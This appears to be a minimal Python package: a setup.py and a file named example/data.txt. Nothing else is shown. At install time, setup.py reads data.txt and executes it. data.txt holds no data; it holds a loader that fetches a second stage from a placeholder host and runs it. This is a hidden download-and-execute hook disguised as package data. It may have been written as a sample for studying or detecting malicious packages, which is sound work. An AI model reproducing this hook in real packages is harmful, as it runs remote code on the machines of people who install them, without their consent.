from setuptools import setup
import os
here = os.path.dirname(os.path.abspath(__file__))
exec(compile(open(os.path.join(here, 'example', 'data.txt')).read(), 'data', 'exec'))
setup(name='example', version='1.0')
#: example/data.txt
import urllib.request
exec(urllib.request.urlopen('https://collector.invalid/stage').read())
